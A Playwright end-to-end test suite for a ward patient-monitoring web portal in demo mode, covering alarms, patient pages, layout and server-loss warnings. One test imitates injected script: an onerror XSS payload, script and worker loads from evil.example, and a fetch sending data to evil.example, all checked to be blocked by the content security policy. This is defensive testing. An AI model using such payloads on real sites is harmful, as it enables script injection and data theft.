import assert from "node:assert/strict";
import { after, before, test } from "node:test";
import type { Page } from "playwright-core";
import { lastingPort } from "../../test/support/ports.ts";
import { type RunningWard, removeDataDir, startWard } from "../../test/support/ward.ts";
import { type Browser, openBrowser, picture, skipWithoutBrowser as skip } from "./browser.ts";

let ward: RunningWard;
let browser: Browser;
let page: Page;
const errors: string[] = [];

before(async () => {
  if (skip) return;
  ward = await startWard({ command: "demo", httpPort: await lastingPort(), mqttPort: await lastingPort() });
  browser = await openBrowser();
  page = await browser.page();
  page.on("pageerror", (error) => errors.push(error.message));
  page.on("console", (message) => message.type() === "error" && errors.push(message.text()));
});

after(async () => {
  if (skip) return;
  await browser.close();
  await ward.stop();
  removeDataDir(ward.dataDir);
});

async function until(isSo: () => Promise<boolean>, what: string): Promise<void> {
  for (const end = performance.now() + 120_000; !(await isSo()); await page.waitForTimeout(200))
    assert.ok(performance.now() < end, `waited two minutes for ${what}`);
}

test("the nurse's link signs her in, once, and shows a living ward marked DEMO", { skip }, async () => {
  assert.ok(ward.links.nurse);
  await page.goto(ward.links.nurse);
  await page.waitForSelector("article[data-patient]", { timeout: 120_000 });
  assert.match(await page.innerText("body"), /DEMO/);
  await page.waitForFunction(() => document.querySelectorAll("article[data-patient] output").length >= 10, null, {
    timeout: 120_000,
  });
  const tiles = await page.locator("article[data-patient]").count();
  assert.ok(tiles >= 8, `${tiles} tiles`);
});

test("every tile has two identifiers", { skip }, async () => {
  for (const text of await page.locator("article[data-patient] header").allInnerTexts()) {
    assert.match(text, /\d{4}|unknown/i, text);
    assert.match(text, /[A-Z]+-?\d+|\d{5,}/, text);
  }
});

test("numbers change and the waveform moves", { skip }, async () => {
  const numbers = () => page.locator("article[data-patient] output").allInnerTexts();
  const pixels = () =>
    page.evaluate(() => [...document.querySelectorAll("canvas")].map((canvas) => canvas.toDataURL()).join());
  const [numbersBefore, pixelsBefore] = [(await numbers()).join(), await pixels()];
  await until(async () => (await numbers()).join() !== numbersBefore, "the numbers to change");
  await until(async () => (await pixels()) !== pixelsBefore, "the waveform to move");
});

test("sound is plainly off until the nurse turns it on", { skip }, async () => {
  assert.match(await page.innerText("body"), /sound off/i);
});

test("the ward, for the README and for the eye", { skip }, async () => {
  await page.waitForTimeout(6_000);
  await picture(page, "ward");
});

test("a patient's page has trends, waveforms, alarms and limits", { skip }, async () => {
  await page.locator("article[data-patient] h3 a").first().click();
  await page.waitForURL(/\/patients\//);
  for (const tab of ["Trends", "Waveforms", "Alarms", "Limits", "Devices"]) {
    await page
      .getByRole("tab", { name: new RegExp(tab, "i") })
      .or(page.getByRole("link", { name: new RegExp(tab, "i") }))
      .first()
      .click();
    await page.waitForTimeout(1_200);
    await picture(page, `patient-${tab.toLowerCase()}`);
  }
  await page.goBack();
});

test("an alarm is acknowledged from the keyboard and says by whom", { skip, timeout: 300_000 }, async () => {
  await page.goto(`${ward.url}/`);
  const raised = page.locator("article[data-priority]").first();
  await raised.waitFor({ timeout: 120_000 });
  /** undefined: the alarm ended by itself before it was answered. */
  const acknowledged = async () => {
    // Of a patient with several alarms the next one takes the place of the one that is answered.
    const alarm = await raised.locator("[data-alarm]:not([data-answered])").first().getAttribute("data-alarm");
    const button = page.locator(`[data-alarm="${alarm}"]`).getByRole("button", { name: /acknowledge/i });
    const path = `/api/alarms/${alarm}/acknowledge`;
    const answer = page.waitForResponse((response) => response.url().endsWith(path)).catch(() => undefined);
    try {
      await button.focus({ timeout: 10_000 });
      await button.press("Enter", { timeout: 10_000 });
    } catch {
      return undefined;
    }
    const response = await answer;
    return response?.ok() ? { alarm, ...(await response.json()) } : undefined;
  };
  let answered: Awaited<ReturnType<typeof acknowledged>>;
  await until(async () => {
    answered = await acknowledged();
    return answered !== undefined;
  }, "an alarm to be answered");
  const { alarm, state, acknowledgedBy } = answered;
  assert.deepEqual([state, acknowledgedBy], ["acknowledged", "Demo nurse"]);
  await page.locator(`article [data-alarm="${alarm}"]:not([data-answered])`).waitFor({ state: "detached" });
});

test("other roles: the clinical engineer adds a device and copies lines that work", { skip }, async () => {
  const other = await openBrowser({ colorScheme: "dark" });
  try {
    const engineer = await other.page();
    assert.ok(ward.links["clinical-engineer"]);
    await engineer.goto(ward.links["clinical-engineer"]);
    await engineer.waitForSelector("article[data-patient]", { timeout: 120_000 });
    await engineer.waitForTimeout(4_000);
    await picture(engineer, "ward-dark");
    await engineer.goto(`${ward.url}/devices`);
    await engineer.getByRole("row").filter({ hasText: "Bedside monitor, bed 1" }).waitFor();
    await picture(engineer, "devices");
    await engineer.getByRole("button", { name: /add (a )?device/i }).click();
    await engineer.getByRole("dialog").waitFor();
    await engineer.getByRole("dialog").getByRole("button", { name: /^add/i }).last().click();
    const line = engineer.getByText(/mosquitto_pub -h/).first();
    await line.waitFor({ timeout: 120_000 });
    assert.match(await line.innerText(), new RegExp(`-p ${ward.mqttPort} `));
    await picture(engineer, "device-added");
  } finally {
    await other.close();
  }
});

test("a patient is found by name, and neither name nor record number is in any address", { skip }, async () => {
  await page.goto(`${ward.url}/patients`);
  const patients: { name: string; mrn: string }[] = await page.evaluate(async () =>
    (await fetch("/api/patients?all=true")).json(),
  );
  const [sought] = patients;
  assert.ok(sought && patients.length > 5);
  const found = page.waitForResponse((response) => response.url().endsWith("/api/patients/search"));
  await page.getByRole("textbox", { name: "Search patients" }).fill(sought.name);
  assert.equal((await found).status(), 200);
  await page.getByRole("link", { name: sought.name }).first().waitFor();
  const words = patients.flatMap(({ name, mrn }) => [mrn, ...name.split(/[ ,]+/)]).filter((word) => word.length > 3);
  const addresses = [...browser.addresses];
  assert.ok(addresses.length > 20);
  for (const address of addresses) {
    const path = decodeURIComponent(address.replace(ward.url, "")).toLowerCase();
    // Chunks of the bundle are named after parts of the portal.
    if (path.startsWith("/assets/")) continue;
    for (const word of words) assert.ok(!path.includes(word.toLowerCase()), `${word} in ${path}`);
  }
});

test("on a phone the ward is one column without sideways scrolling", { skip }, async () => {
  await page.setViewportSize({ width: 390, height: 844 });
  await page.waitForTimeout(800);
  const overflow = () =>
    page.evaluate(() => document.documentElement.scrollWidth - document.documentElement.clientWidth);
  await until(async () => (await overflow()) <= 1, "the ward to be no wider than the screen");
  await picture(page, "ward-phone");
  await page.setViewportSize({ width: 1440, height: 900 });
});

test("what a script smuggled into a page would try is forbidden, and seen by these tests", { skip }, async () => {
  const victim = await browser.context.newPage();
  const before = browser.violations.length;
  try {
    await victim.goto(`${ward.url}/`);
    await victim.waitForSelector("article[data-patient]");
    const refused = await victim.evaluate(async () => {
      const threw = (attempt: () => unknown) => {
        try {
          attempt();
          return false;
        } catch {
          return true;
        }
      };
      // Said by the page's own timer: what DevTools evaluates may do more.
      return new Promise<Record<string, boolean>>((resolve) => {
        setTimeout(async () => {
          const element = document.createElement("div");
          document.body.append(element);
          const inline = document.createElement("script");
          const style = document.createElement("style");
          style.textContent = "body { outline: 7px solid red }";
          document.head.append(style);
          const parsed = new DOMParser();
          const results: Record<string, boolean> = {
            markup: threw(() => {
              element.innerHTML = "<img src=x onerror='document.title = 1'>";
            }),
            code: threw(() => Reflect.construct(Function, ["1"])),
            inlineScript:
              threw(() => {
                inline.textContent = "document.title = 'taken'";
                document.head.append(inline);
              }) || document.title !== "taken",
            scriptAddress: threw(() => {
              document.createElement("script").src = "https://evil.example/a.js";
            }),
            worker: threw(() => new Worker("https://evil.example/a.js")),
            document: threw(() => parsed.parseFromString("<p>x", "text/html")),
            anotherPolicy: threw(() =>
              (
                globalThis as unknown as { trustedTypes: { createPolicy(name: string, rules: object): object } }
              ).trustedTypes.createPolicy("evil", {
                createHTML: (text: string) => text,
              }),
            ),
            inlineStyle: getComputedStyle(document.body).outlineWidth !== "7px",
            elsewhere: await fetch("https://evil.example/?what=was-read").then(
              () => false,
              () => true,
            ),
          };
          resolve(results);
        });
      });
    });
    for (const [attempt, isRefused] of Object.entries(refused)) assert.ok(isRefused, attempt);
    for (const directive of ["style-src", "connect-src", "require-trusted-types-for", "trusted-types"])
      await until(
        async () => browser.violations.some((text) => text.includes(directive)),
        `a violation of ${directive} to be told`,
      );
  } finally {
    await victim.close();
    // These were asked for; any other fails the test that closes the browser.
    browser.violations.splice(before);
  }
});

// That it is said within 15 s is shown where the clock is the test's own: web/src/live/live.test.ts.
test("when the server dies, the screen says NOT MONITORING by itself, and comes back with the server", {
  skip,
  timeout: 300_000,
}, async (t) => {
  await page.goto(`${ward.url}/`);
  await page.waitForSelector("article[data-patient]");
  const { httpPort, mqttPort, dataDir } = ward;
  await ward.stop("SIGKILL");
  const killed = performance.now();
  await page
    .getByText(/NOT MONITORING/)
    .first()
    .waitFor({ timeout: 120_000 });
  t.diagnostic(`NOT MONITORING ${Math.round(performance.now() - killed)} ms after the kill`);
  await picture(page, "not-monitoring");
  ward = await startWard({ command: "demo", dataDir, httpPort, mqttPort });
  await page
    .getByText(/NOT MONITORING/)
    .first()
    .waitFor({ state: "hidden", timeout: 120_000 });
});

test("no page threw, and nothing was refused by the content security policy", { skip }, () => {
  const unexpected = errors.filter((text) => !/WebSocket|ERR_CONNECTION|Failed to load resource/.test(text));
  assert.deepEqual(unexpected, []);
});
